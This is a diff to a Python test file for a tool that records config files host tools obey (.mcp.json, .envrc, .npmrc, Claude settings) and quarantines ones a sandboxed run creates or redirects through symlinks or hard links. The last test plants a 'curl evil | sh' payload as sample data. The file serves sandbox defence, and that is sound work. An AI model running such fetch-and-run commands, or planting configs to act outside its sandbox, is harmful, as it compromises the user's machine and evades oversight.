@@ -17,11 +17,12 @@ from boxyd.plan import heldfiles
 from boxyd.plan.heldfiles import Present
 
 
-def found(root: Path) -> dict[str, Present]:
-    finder = heldfiles.Finder(str(root))
+def found(root: Path, bounded: bool = False) -> dict[str, Present]:
+    finder = heldfiles.Finder(str(root), bounded)
     fd = discover.open_root(str(root))
     try:
         discover.Walker(str(root), fd, observer=finder).run()
+        finder.links(fd)
     finally:
         os.close(fd)
     return finder.found
@@ -70,8 +71,10 @@ def test_a_held_symlink_pins_its_target_in_the_tree(tmp_path: Path) -> None:
     (tmp_path / ".mcp.json").symlink_to("conf/mcp.json")
     (tmp_path / ".envrc").symlink_to("/etc/hostname")  # outside: nothing to pin
     got = found(tmp_path)
-    assert got[".mcp.json"] == Present(".mcp.json", "symlink", "conf/mcp.json")
-    assert got["conf/mcp.json"] == Present("conf/mcp.json", "file")
+    assert got[".mcp.json"] == Present(
+        ".mcp.json", "symlink", "conf/mcp.json", resolved="conf/mcp.json"
+    )
+    assert got["conf/mcp.json"] == Present("conf/mcp.json", "file", via=".mcp.json")
     assert got[".envrc"].type == "symlink" and len(got) == 3
 
 
@@ -81,7 +84,8 @@ def test_more_than_the_bound_refuses_the_run(tmp_path: Path, monkeypatch: pytest
         (tmp_path / f"p{i}").mkdir()
         (tmp_path / f"p{i}/.envrc").write_text("x")
     with pytest.raises(SetupError, match="more than 3 files that host tools obey"):
-        found(tmp_path)
+        found(tmp_path, bounded=True)
+    assert len(found(tmp_path)) == 4  # the check after the run is never cut short
 
 
 def test_what_the_run_made_is_quarantined_and_the_rest_left(tmp_path: Path) -> None:
@@ -199,3 +203,52 @@ def test_a_move_that_cannot_be_done_is_said(tmp_path: Path) -> None:
     assert got is not None and not got[1] and "could not be quarantined" in got[0]
     assert (work / ".mcp.json").exists()
     assert errno.ENOTDIR  # (the cause: q is a file)
+
+
+def test_what_held_entries_lead_to_is_held_too(tmp_path: Path) -> None:
+    """A symlink in a held directory, an absent target, a hard link: each a way to
+    change what a pinned entry says without touching it."""
+    work, q = tmp_path / "w", tmp_path / "q/s/w"
+    (work / ".claude").mkdir(parents=True)
+    (work / "shared").mkdir()
+    (work / "shared/claude.json").write_text("{}")
+    (work / ".claude/settings.json").symlink_to("../shared/claude.json")
+    (work / ".mcp.json").symlink_to("mcp.local.json")  # absent for now
+    (work / "alias").write_text("fund=false\n")
+    os.link(work / "alias", work / ".npmrc")
+    before = found(work)
+    assert before["shared/claude.json"] == Present("shared/claude.json", "file", via=".claude")
+    assert before["mcp.local.json"] == Present("mcp.local.json", "absent", via=".mcp.json")
+    assert before["alias"] == Present("alias", "file", via=".npmrc")
+    pinned = {p.rel for p in heldfiles.pins(before.values(), [])}
+    assert {".claude", "shared/claude.json", ".npmrc", "alias"} <= pinned
+    assert "mcp.local.json" not in pinned
+    (work / "mcp.local.json").write_text('{"mcpServers": {}}')  # made by the run
+    (lines,) = after(work, before, q)
+    assert lines.startswith(f"quarantined {work}/mcp.local.json (Claude Code starts")
+    assert os.readlink(work / ".mcp.json") == "mcp.local.json"  # the user's link stays
+
+
+def test_a_held_config_with_another_name_is_held_whole(tmp_path: Path) -> None:
+    work, q = tmp_path / "w", tmp_path / "q/s/w"
+    work.mkdir()
+    before = found(work)
+    (work / "alias").write_text("fund=false\n")
+    os.link(work / "alias", work / ".npmrc")  # harmless now; writable through alias
+    (lines,) = after(work, before, q)
+    assert "another name of it in the tree could change it unseen" in lines
+
+
+def test_a_held_symlink_that_now_leads_elsewhere_is_moved(tmp_path: Path) -> None:
+    work, q = tmp_path / "w", tmp_path / "q/s/w"
+    (work / "conf.d").mkdir(parents=True)
+    (work / "conf.d/envrc").write_text("export X=1\n")
+    (work / "conf").symlink_to("conf.d")
+    (work / ".envrc").symlink_to("conf/envrc")
+    before = found(work)
+    (work / "conf").unlink()  # the directory on its way swapped for the payload's
+    (work / "conf").mkdir()
+    (work / "conf/envrc").write_text("curl evil | sh\n")
+    lines = after(work, before, q)
+    assert any(ln.startswith(f"quarantined {work}/.envrc") for ln in lines), lines
+    assert not os.path.lexists(work / ".envrc")
